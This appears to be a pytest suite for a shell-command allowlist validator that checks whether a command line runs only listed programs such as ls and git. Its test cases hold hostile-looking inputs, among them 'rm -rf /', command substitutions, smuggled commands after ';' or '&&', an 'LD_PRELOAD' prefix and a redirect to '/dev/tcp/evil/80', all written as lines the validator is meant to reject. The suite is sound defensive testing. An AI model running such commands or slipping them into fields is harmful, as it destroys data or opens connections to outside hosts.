import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gateway.kernel.objects.judged import Unjudged
from gateway.kernel.objects.shell import WRAPPERS, read
from tests.kernel.objects import Judged, judged

MORE = "the command line is more than plain words can say"
REPLACED = "a word has something in it that the shell replaces"
QUOTED = "a quoted text has something in it that the shell replaces"
TO = "the command line redirects to or from somewhere"
HIDDEN = "the command line has characters that cannot be seen"
PARSED = "the command line cannot be parsed"
NONE = "the command line has no command"
ANOTHER = "a command runs another, which is not judged"
NO_NAME = "a command has no plain name"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ls", True),
        ("ls -l --color=never a/b.c ./d", True),
        ("git status; ls && ls || git log | ls", True),
        ("ls\n\ngit status\n", True),
        ("ls;", True),
        ("\tls  a ", True),
        ("git commit -m 'a; rm -rf / $(x) `y` \\'", True),
        ('git commit -m "a; rm > x & b\nc"', True),
        ("git show HEAD~1 HEAD^ main@{", REPLACED),
        ("git show HEAD~1 HEAD^ a:b,c+d%e", True),
        ("l's' a", True),
        ("'ls' \"a\"'b'c", True),
        ("ls ''", True),
        ("ls é 日本", True),
        ("git clone git@github.com:a/b.git --depth=1", True),
        ("ls 2>&1", True),
        ("ls > /dev/null 2>&1", True),
        ("ls &>/dev/null | git diff", True),
        ("rm x", False),
        ("ls; rm x", False),
        ("ls && rm x", False),
        ("ls || rm x", False),
        ("ls | rm", False),
        ("ls\nrm x", False),
        ("rm\tx", False),
        ("r'm' x", False),
        ('"rm" x', False),
        ("/bin/ls", False),
        ("./ls", False),
        ("LS", False),
        ("ls2", False),
        ("sudo ls", False),
        ("env ls", False),
        ("xargs ls", False),
        ("time ls", False),
        ("exec ls", False),
        ("eval ls", False),
        ("coproc ls", False),
        ("sh -c ls", False),
        ("ls &", MORE),
        ("ls & rm x", MORE),
        ("ls $(rm x)", MORE),
        ("ls `rm x`", MORE),
        ("ls $x", MORE),
        ("ls ${x}", MORE),
        ("ls $((1+1))", MORE),
        ("ls <(rm x)", MORE),
        ("ls $'\\x41'", MORE),
        ('ls "$(rm x)"', QUOTED),
        ('ls "`rm x`"', QUOTED),
        ('ls "$x"', QUOTED),
        ('ls "a\\"; rm x"', QUOTED),
        ("ls *.py", REPLACED),
        ("ls ?", REPLACED),
        ("ls [a]", REPLACED),
        ("ls {a,b}", REPLACED),
        ("ls ~", REPLACED),
        ("ls ~root/x", REPLACED),
        ("ls a=~/x", REPLACED),
        ("l\\s", REPLACED),
        ("ls a\\ b", REPLACED),
        ("ls a\\\nb", MORE),
        ("ls \\\n", PARSED),
        ("ls \"\"''", True),
        ("ls ''_$}", MORE),  # one word to bash, and several to the grammar
        ("ls > /dev/null x", TO),
        ("ls -2>&1", MORE),
        ("ls -f2> /dev/null", MORE),
        ("> /dev/null ls", MORE),
        ("ls !!", REPLACED),
        ("ls > x", TO),
        ("ls >> x", TO),
        ("ls 2> x", TO),
        ("ls < x", TO),
        ("ls > /dev/null/../x", TO),
        ("ls > /dev/tcp/evil/80", TO),
        ("ls >| x", TO),
        ("ls <<< x", MORE),
        ("cat <<E\n$(rm x)\nE", TO),
        ("ls >& x", TO),
        ("LD_PRELOAD=x ls", MORE),
        ("A=1", MORE),
        ("A=1 B=2", MORE),
        ("(ls)", MORE),
        ("{ ls; }", MORE),
        ("! ls", MORE),
        ("if ls; then rm x; fi", MORE),
        ("for i in a; do ls; done", MORE),
        ("while ls; do rm x; done", MORE),
        ("case a in a) rm x;; esac", MORE),
        ("ls() { rm x; }", MORE),
        ("function ls { rm x; }", MORE),
        ("[[ -f x ]]", MORE),
        ("[ -f x ]", MORE),
        ("((1))", MORE),
        ("export A=b", MORE),
        ("declare -f", MORE),
        ("unset x", MORE),
        ("ls # rm x", MORE),
        ("# ls", MORE),
        ("ls ;; rm", MORE),
        ("ls\rrm x", HIDDEN),
        ("ls\u00a0x", HIDDEN),
        ("ls \u202ex", HIDDEN),
        ("ls\x0brm", HIDDEN),
        ("ls \x1b[0m", HIDDEN),
        ("ls 'a", PARSED),
        ("ls (", PARSED),
        ("ls !(x)", PARSED),
        ("ls &&", PARSED),
        ("", NONE),
        (" \n ", NONE),
        ("'' x", NO_NAME),
        ("a'='b ls", NO_NAME),
        ("ls " + "a" * 5_000, "the command line is longer than 4096 characters"),
        (7, "`shell.runs_only` cannot take an integer and a list"),
        (["ls"], "`shell.runs_only` cannot take a list and a list"),
    ],
)
def test_a_line_runs_only_what_is_listed_if_all_of_it_is_plain(line: object, expected: Judged) -> None:
    assert judged('shell.runs_only(args.a, ["ls", "git"])', line) == expected
    simple = judged("shell.simple(args.a)", line) if isinstance(line, str) else False
    assert simple is (isinstance(expected, bool) and ">" not in str(line).replace("rm > x", ""))


@pytest.mark.parametrize("wrapper", sorted(WRAPPERS))
def test_what_runs_another_command_must_be_listed_by_name(wrapper: str) -> None:
    line = f"{wrapper} rm x"
    assert judged('shell.runs_only(args.a, ["rm"])', line) is False
    assert judged('shell.runs_only(args.a, ["rm", args.b])', line, wrapper) is True
    assert judged('shell.commands(args.a).exists(c, c == "rm")', line) == ANOTHER


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("ls; git log | ls", ["ls", "git"]),
        ("find . -name x", ["find"]),
        ("find . -exec rm x", ANOTHER),
        ("find . '-exec' rm x", ANOTHER),
        ("/bin/rm x", "a command is named by its path"),
        ("ls > x", TO),
    ],
)
def test_commands_are_told_by_their_names(line: str, expected: list[str] | str) -> None:
    if isinstance(expected, str):
        assert judged("size(shell.commands(args.a)) == 0", line) == expected
    else:
        assert judged("shell.commands(args.a) == args.b", line, expected) is True


def test_a_listed_command_that_runs_another_by_an_option_is_undecided() -> None:
    assert judged('shell.runs_only(args.a, ["find"])', "find . -name x") is True
    assert judged('shell.runs_only(args.a, ["find"])', "find . -exec rm x") == ANOTHER


def test_words_are_told_without_their_quotes() -> None:
    words = [["git", "commit", "-m", "a b", "cd"], ["ls"]]
    assert judged("shell.words(args.a) == args.b", "git commit -m 'a b' \"c\"d; ls", words) is True
    asked = 'shell.words(args.a).all(w, w[0] == "git" && w[1] in ["status", "log"])'
    assert judged(asked, "git status && git log") is True
    assert judged(asked, "git status && git push") is False
    assert judged(asked, "git") == "a list has no such element"


def test_names_that_are_listed_are_texts() -> None:
    assert judged("shell.runs_only(args.a, args.b)", "ls", ["ls", 1]) == "not all commands are texts"
    assert judged("shell.runs_only(args.a, args.b)", "ls", []) is False


BASH = Path("/bin/bash")
PIECES = [*"ab5 -_./=+:,@%^#~'\"\n;|&>\u00e9!\\\t", "ls ", "2>&1", " >/dev/null ", "&&", "''", '""']
PIECES += ["a'b'", '"c d"', "5a", "~1", "-2"]


@pytest.mark.skipif(not BASH.exists(), reason="needs bash, to ask it")
@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(pieces=st.lists(st.sampled_from(PIECES), min_size=1, max_size=9))
def test_bash_itself_finds_the_same_words(pieces: list[str], tmp_path: Path) -> None:
    line = "ls " + "".join(pieces)
    try:
        found, _ = read(line)
    except Unjudged:
        return
    if any(command[0] != "ls" for command in found):
        return  # nothing but our own function is ever run
    told = tmp_path / "told"
    told.write_bytes(b"")
    # One write for each command: those of a pipeline run at once.
    ours = 'ls() { local IFS=$\'\\037\'; set -- ls "$@"; printf "%s\\037\\036" "$*" >> "$OUT"; }\n'
    env = {"OUT": str(told), "PATH": ""}
    subprocess.run([BASH, "-c", ours + line], cwd=tmp_path, env=env, capture_output=True, timeout=10, check=False)
    words = [tuple(one.split("\037")[:-1]) for one in told.read_text("utf-8").split("\036")[:-1]]
    assert sorted(words) == sorted(found)
